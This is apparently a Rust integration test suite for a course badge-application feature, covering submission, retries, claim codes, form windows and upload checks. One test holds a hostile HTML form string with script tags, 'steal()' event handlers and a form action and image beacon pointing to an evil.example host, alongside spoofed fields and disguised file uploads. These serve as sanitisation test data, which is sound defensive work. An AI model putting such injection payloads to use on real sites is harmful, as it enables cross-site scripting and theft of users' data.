//! What learners see, hand in and get.

use std::time::Duration;

use badgebridge::model::application::{Call, Stage};
use badgebridge::model::form::FormsShown;
use badgebridge::sandbox::factory::{
    Aim, BADGE_SAFETY, BADGE_WELCOME, EARNABLE_INSTANT, EARNABLE_PEER, EARNABLE_REVIEW, EARNABLE_SECRET,
    EARNABLE_SECRET_CODE, EarnableChange, Fault, Kind, Plan,
};
use badgebridge::sandbox::lms::Picking;

use super::{PDF, apply, key, learner, own, page, show_forms};
use crate::deep_linking::{opened, placed};
use crate::support::database::{Database, on_both_databases, with_sqlite};
use crate::support::world::World;

const ADA: &str = "ada@campus.example";

fn next(fault: Fault) -> Plan {
    Plan::Next {
        fault,
        times: 1,
        aim: Aim::Only(Kind::Earnable),
    }
}

async fn with_world(run: impl AsyncFnOnce(World)) {
    with_sqlite(async |database: Database| run(World::start(&database).await).await).await;
}

/// The Factory as it is now, in the catalog.
async fn read_again(world: &World, change: EarnableChange) {
    world.factory.change_earnable(EARNABLE_REVIEW, change);
    world.queue_catalog().await;
    world.drain_jobs().await;
}

on_both_databases! {
    async fn a_learner_applies_in_the_course_with_the_name_and_address_of_the_launch(database: Database) {
        let world = World::start(&database).await;
        let chosen = format!("apply:{EARNABLE_REVIEW}");
        let item = placed(&world, Picking::One, &[("item", chosen.as_str())]).await.remove(0);
        let (ada, rest) = opened(&world, "ada", "BIO-2010", &item).await;
        assert_eq!(rest, format!("/apply/{EARNABLE_REVIEW}"));
        let shown = page(&ada, EARNABLE_REVIEW).await;
        for words in ["Apply for Lab Safety", "What did you do?", ADA, "Shown in class and recorded.", "A teacher decides."] {
            assert!(shown.body.contains(words), "{words}: {}", shown.body);
        }
        assert!(!shown.body.contains("name=\"why\"") && !shown.body.contains("name=\"email\""), "only our own fields");
        // nothing half done: what is missing is said, and nothing is stored
        let key = key(&shown);
        let path = format!("/apply/{EARNABLE_REVIEW}");
        let wrong = ada.post_files(&path, &[("key", key.as_str()), ("q0", " ")], &[("q1", "proof.exe", b"MZ")]).await;
        assert_eq!(wrong.status, 422, "{}", wrong.body);
        assert!(wrong.body.contains("Choose a file of one of these kinds") && wrong.body.contains("Files must be chosen again"));
        assert!(own(&world, &ada, EARNABLE_REVIEW).await.is_empty());
        // the Factory is silent meanwhile: the page does not wait for it
        let fields = [("key", key.as_str()), ("q0", "Goggles, always."), ("email", "eve@evil.example"),
            ("applicant", "Eve"), ("name", "Eve"), ("why", "hijacked")];
        for _ in 0..2 {
            let sent = ada.post_files(&path, &fields, &[("q1", "proof.pdf", PDF)]).await;
            assert_eq!(sent.status, 303, "{}", sent.body);
            assert!(sent.location().contains("did=applied"));
        }
        assert!(world.factory.applications().is_empty(), "nothing left before it was stored");
        assert!(page(&ada, EARNABLE_REVIEW).await.body.contains("Your application is stored"));
        world.drain_jobs().await;
        let at_factory = world.factory.applications();
        assert_eq!(at_factory.len(), 1, "pressed twice, sent once");
        let one = &at_factory[0];
        assert_eq!((one.email.as_str(), one.status.as_str()), (ADA, "pending"));
        assert!(one.applicant.starts_with("Ada"), "{}", one.applicant);
        assert_eq!(one.form_data["why"], "Goggles, always.");
        assert_eq!(one.form_data["certificate"], serde_json::json!({"file": "proof.pdf", "bytes": PDF.len()}));
        assert!(!one.attach_evidence, "the tick was not set");
        let shown = page(&ada, EARNABLE_REVIEW).await;
        assert!(shown.body.contains("Waiting for review") && shown.body.contains("Goggles, always."), "{}", shown.body);
        assert!(!shown.body.contains("multipart/form-data"), "one at a time");
        world.finish().await;
    }

    async fn a_lost_answer_is_looked_for_before_anything_is_sent_again(database: Database) {
        let world = World::start(&database).await;
        let ada = learner(&world, "ada", EARNABLE_REVIEW, BADGE_SAFETY).await;
        let unseen_for = Duration::ZERO;
        world.factory.misbehave(next(Fault::LostAnswer { unseen_for }));
        apply(&ada, "First").await;
        world.drain_jobs().await;
        let stored = own(&world, &ada, EARNABLE_REVIEW).await.remove(0);
        assert_eq!((stored.stage, stored.call), (Stage::New, Call::Unsure));
        assert!(page(&ada, EARNABLE_REVIEW).await.body.contains("On its way"));
        world.wait_out().await;
        let stored = own(&world, &ada, EARNABLE_REVIEW).await.remove(0);
        assert_eq!(stored.stage, Stage::Pending);
        assert_eq!(world.factory.applications().len(), 1, "found, not sent again");
        assert_eq!(stored.factory_id, Some(world.factory.applications()[0].id.clone()));
        world.finish().await;
    }
}

#[tokio::test]
async fn what_was_not_carried_out_is_sent_once_more_after_the_last_look() {
    with_world(async |world| {
        let ada = learner(&world, "ada", EARNABLE_REVIEW, BADGE_SAFETY).await;
        world.factory.misbehave(next(Fault::Status(500)));
        apply(&ada, "First").await;
        world.wait_out().await;
        assert_eq!(world.factory.applications().len(), 1, "sent again after the last look");
        assert_eq!(own(&world, &ada, EARNABLE_REVIEW).await[0].stage, Stage::Pending);
        world.finish().await;
    })
    .await;
}

#[tokio::test]
async fn a_factory_that_is_away_delays_and_loses_nothing() {
    with_world(async |world| {
        let ada = learner(&world, "ada", EARNABLE_REVIEW, BADGE_SAFETY).await;
        for fault in [Fault::TooMany { retry_after: 5 }, Fault::CertificateInvalid] {
            world.factory.misbehave(next(fault));
        }
        apply(&ada, "Patience").await;
        world.drain_jobs().await;
        assert!(world.factory.applications().is_empty());
        world.wait_out().await;
        assert_eq!(world.factory.applications().len(), 1);
        assert_eq!(
            own(&world, &ada, EARNABLE_REVIEW).await[0].sendings,
            0,
            "none of them counted"
        );
        world.finish().await;
    })
    .await;
}

#[tokio::test]
async fn a_claim_code_is_sealed_refused_when_wrong_and_gives_the_badge_at_once() {
    with_world(async |world| {
        let ada = learner(&world, "ada", EARNABLE_SECRET, BADGE_WELCOME).await;
        let path = format!("/apply/{EARNABLE_SECRET}");
        let with = async |code: &str| {
            let key = key(&page(&ada, EARNABLE_SECRET).await);
            ada.post_files(&path, &[("key", key.as_str()), ("q0", "Group 7"), ("code", code)], &[])
                .await
        };
        assert_eq!(with("").await.status, 422);
        assert_eq!(with("guess").await.status, 303);
        let sealed = own(&world, &ada, EARNABLE_SECRET).await[0].claim_code.clone().unwrap();
        assert!(!sealed.windows(5).any(|bytes| bytes == b"guess"));
        world.drain_jobs().await;
        let refused = own(&world, &ada, EARNABLE_SECRET).await.remove(0);
        assert_eq!((refused.stage, refused.claim_code), (Stage::Refused, None));
        let shown = page(&ada, EARNABLE_SECRET).await;
        assert!(
            shown.body.contains("Not taken") && shown.body.contains("wrong claim code"),
            "{}",
            shown.body
        );
        assert!(
            shown.body.contains("value=\"Group 7\""),
            "earlier answers are filled in"
        );
        world.advance(Duration::from_mins(1)).await;
        assert_eq!(with(EARNABLE_SECRET_CODE).await.status, 303);
        world.wait_out().await;
        let approved = own(&world, &ada, EARNABLE_SECRET).await.remove(0);
        assert_eq!(approved.stage, Stage::Approved);
        assert!(approved.award.is_some(), "an award of ours");
        assert_eq!(world.factory.issued(BADGE_WELCOME), [ADA]);
        assert!(ada.get("/my").await.body.contains("Welcome to Marlowe"));
        assert!(page(&ada, EARNABLE_SECRET).await.body.contains("Approved on"));

        let bjorn = learner(&world, "bjorn", EARNABLE_INSTANT, "B4DataBasic1").await;
        let shown = page(&bjorn, EARNABLE_INSTANT).await;
        assert!(shown.body.contains("as soon as your application arrives") && shown.body.contains("Statistics 1"));
        let key = key(&shown);
        let path = format!("/apply/{EARNABLE_INSTANT}");
        let odd = bjorn
            .post_files(&path, &[("key", key.as_str()), ("q0", "s9")], &[])
            .await;
        assert_eq!(odd.status, 422, "not among the choices");
        bjorn
            .post_files(&path, &[("key", key.as_str()), ("q0", "s1")], &[])
            .await;
        world.wait_out().await;
        assert_eq!(own(&world, &bjorn, EARNABLE_INSTANT).await[0].stage, Stage::Approved);
        assert_eq!(world.factory.issued("B4DataBasic1"), ["bjorn@campus.example"]);
        world.finish().await;
    })
    .await;
}

#[tokio::test]
async fn a_form_that_is_closed_hidden_away_or_not_placed_here_is_refused_with_what_to_do() {
    with_world(async |world| {
        let ada = learner(&world, "ada", EARNABLE_REVIEW, BADGE_SAFETY).await;
        let open = key(&page(&ada, EARNABLE_REVIEW).await);
        let now = world.now().seconds();
        let days = |n: i64| Some(now + n * 86_400);
        let window = |window| EarnableChange {
            window: Some(window),
            ..EarnableChange::default()
        };
        read_again(&world, window((days(2), days(9)))).await;
        let path = format!("/apply/{EARNABLE_REVIEW}");
        let late = [("key", open.as_str()), ("q0", "Too early")];
        assert_eq!(
            ada.post_files(&path, &late, &[]).await.status,
            303,
            "back to the page, which says so"
        );
        let shown = page(&ada, EARNABLE_REVIEW).await;
        assert!(shown.body.contains("Applications are open from"), "{}", shown.body);
        read_again(&world, window((None, days(-1)))).await;
        assert!(page(&ada, EARNABLE_REVIEW).await.body.contains("were open until"));
        read_again(&world, window((None, None))).await;
        // closed at the Factory while the page was open: its refusal is told
        world.factory.change_earnable(EARNABLE_REVIEW, window((None, days(-1))));
        apply(&ada, "Late").await;
        world.drain_jobs().await;
        assert!(
            page(&ada, EARNABLE_REVIEW)
                .await
                .body
                .contains("applications are closed")
        );
        read_again(&world, window((None, None))).await;

        // the organisation, or a field that is not known, sends to the Factory's page
        show_forms(&world, FormsShown::Factory).await;
        let shown = page(&ada, EARNABLE_REVIEW).await;
        let address = format!("{}/c/earnablebadge/{EARNABLE_REVIEW}/apply", world.factory.url());
        assert!(
            shown.body.contains(&address) && shown.body.contains("rel=\"noopener\""),
            "{}",
            shown.body
        );
        show_forms(&world, FormsShown::Own).await;
        let html = |text: &str| EarnableChange {
            form_html: Some(text.to_owned()),
            ..EarnableChange::default()
        };
        read_again(&world, html("<input type=color name=c>")).await;
        assert!(page(&ada, EARNABLE_REVIEW).await.body.contains(&address));
        // a hostile form shows nothing of itself
        let hostile = "<script>alert(1)</script><label onclick=steal()>Why <input name=why onfocus=steal()></label>\
            <form action=//evil.example><input name=email value=eve@evil.example></form><img src=//evil.example/x>";
        read_again(&world, html(hostile)).await;
        let shown = page(&ada, EARNABLE_REVIEW).await;
        assert!(shown.body.contains("Why"), "{}", shown.body);
        for bad in ["evil", "steal", "alert(1)"] {
            assert!(!shown.body.contains(bad), "{bad}: {}", shown.body);
        }
        // in a course where it was not placed there is no form
        let elsewhere = world.launch("teacher2", "SAF-1000").await;
        assert_eq!(elsewhere.get(&path).await.status, 404);
        assert_eq!(elsewhere.post_files(&path, &late, &[]).await.status, 404);
        assert_eq!(ada.get("/apply/A0").await.status, 404);
        world.finish().await;
    })
    .await;
}

#[tokio::test]
async fn files_that_are_too_large_or_not_what_they_say_leave_nothing_behind() {
    with_world(async |world| {
        let ada = learner(&world, "ada", EARNABLE_REVIEW, BADGE_SAFETY).await;
        let key = key(&page(&ada, EARNABLE_REVIEW).await);
        let path = format!("/apply/{EARNABLE_REVIEW}");
        let fields = [("key", key.as_str()), ("q0", "Look")];
        let large = vec![b'%'; 5 * 1024 * 1024 + 1];
        let answer = ada.post_files(&path, &fields, &[("q1", "big.pdf", &large)]).await;
        assert_eq!(answer.status, 422);
        assert!(
            answer.body.contains("larger than") || answer.body.contains("MB"),
            "{}",
            answer.body
        );
        assert!(answer.body.contains(">Look</textarea>"), "the rest is kept");
        for (name, bytes) in [("a.html", &b"<script>"[..]), ("a.svg", b"<svg>"), ("a.pdf", b"<html>")] {
            assert_eq!(
                ada.post_files(&path, &fields, &[("q1", name, bytes)]).await.status,
                422,
                "{name}"
            );
        }
        let foreign = ada.browser.post(&format!("{}{path}", ada.url), &fields).await;
        assert_ne!(foreign.status, 303, "without the secret");
        assert!(own(&world, &ada, EARNABLE_REVIEW).await.is_empty());
        // many pieces come together again
        let mut several = b"%PDF".to_vec();
        several.extend((0..700_000_u32).map(|n| n.to_le_bytes()[0]));
        assert_eq!(
            ada.post_files(&path, &fields, &[("q1", "big.pdf", &several)])
                .await
                .status,
            303
        );
        world.drain_jobs().await;
        let one = world.factory.applications().remove(0);
        assert_eq!(one.form_data["certificate"]["bytes"], several.len());
        world.finish().await;
    })
    .await;
}

#[tokio::test]
async fn staff_test_students_and_people_without_an_address_see_why_they_cannot_apply() {
    with_world(async |world| {
        learner(&world, "ada", EARNABLE_PEER, "B4Speaking01").await;
        for (person, words) in [
            ("teacher1", "as a learner would"),
            ("assistant", "as a learner would"),
            ("nomail", "does not share your email"),
        ] {
            let tab = world.launch(person, "BIO-2010").await;
            let shown = page(&tab, EARNABLE_PEER).await;
            assert!(shown.body.contains(words), "{person}: {}", shown.body);
            assert!(shown.body.contains("Other people who applied decide."));
            let path = format!("/apply/{EARNABLE_PEER}");
            let sent = tab
                .post_files(&path, &[("key", "k1"), ("q0", "https://x.example")], &[])
                .await;
            assert_eq!(sent.status, 303, "back to the page");
        }
        world.wait_out().await;
        assert!(world.factory.applications().is_empty());
        world.finish().await;
    })
    .await;
}

#[tokio::test]
async fn what_is_begun_is_kept_and_checked_before_it_is_sent() {
    with_world(async |world| {
        let ada = learner(&world, "ada", EARNABLE_REVIEW, BADGE_SAFETY).await;
        let path = format!("/apply/{EARNABLE_REVIEW}");
        let check = format!("{path}?check=1");
        let one_time = key(&page(&ada, EARNABLE_REVIEW).await);
        let fields = [("key", one_time.as_str()), ("do", "keep"), ("q0", "Half a sen")];
        let kept = ada.post_files(&path, &fields, &[]).await;
        assert!(kept.location().contains("did=application-kept"), "{}", kept.body);
        let shown = page(&ada, EARNABLE_REVIEW).await;
        for words in ["Half a sen", "Started", "nothing was sent yet", "Continue"] {
            assert!(shown.body.contains(words), "{words}: {}", shown.body);
        }
        // what is not whole is not checked, and cannot be sent
        assert!(!ada.get(&check).await.body.contains("Check before you send"));
        let confirm = ada.post(&path, &[("key", &one_time), ("do", "confirm")]).await;
        assert_eq!((confirm.status, confirm.location().contains("did=")), (303, false));
        // checked: with its file, and sent by the second press alone
        let one_time = key(&shown);
        let fields = [("key", one_time.as_str()), ("do", "check"), ("q0", "Goggles, always.")];
        let checked = ada.post_files(&path, &fields, &[("q1", "proof.pdf", PDF)]).await;
        assert!(checked.location().ends_with("?check=1"), "{}", checked.body);
        let shown = ada.get(&check).await;
        for words in ["Check before you send", "Goggles, always.", "proof.pdf"] {
            assert!(shown.body.contains(words), "{words}: {}", shown.body);
        }
        world.drain_jobs().await;
        assert!(own(&world, &ada, EARNABLE_REVIEW).await.is_empty() && world.factory.applications().is_empty());
        // of nobody else
        let bjorn = world.launch("bjorn", "BIO-2010").await;
        assert!(!bjorn.get(&check).await.body.contains("Goggles"));
        for _ in 0..2 {
            let sent = ada.post(&path, &[("key", &key(&shown)), ("do", "confirm")]).await;
            assert!(sent.location().contains("did=applied"), "{}", sent.body);
        }
        world.drain_jobs().await;
        let at_factory = world.factory.applications();
        assert_eq!(at_factory.len(), 1);
        assert_eq!(
            at_factory[0].form_data["certificate"],
            serde_json::json!({"file": "proof.pdf", "bytes": PDF.len()})
        );
        // files of what was not sent are forgotten after a day: then they are asked for again
        let noa = world.launch("noa", "BIO-2010").await;
        let one_time = key(&page(&noa, EARNABLE_REVIEW).await);
        let fields = [("key", one_time.as_str()), ("do", "check"), ("q0", "Late.")];
        noa.post_files(&path, &fields, &[("q1", "proof.pdf", PDF)]).await;
        world.advance(Duration::from_hours(24)).await;
        let noa = world.launch("noa", "BIO-2010").await;
        let shown = noa.get(&check).await;
        assert!(
            shown.body.contains("Late.") && shown.body.contains("Files must be chosen again"),
            "{}",
            shown.body
        );
        world.finish().await;
    })
    .await;
}
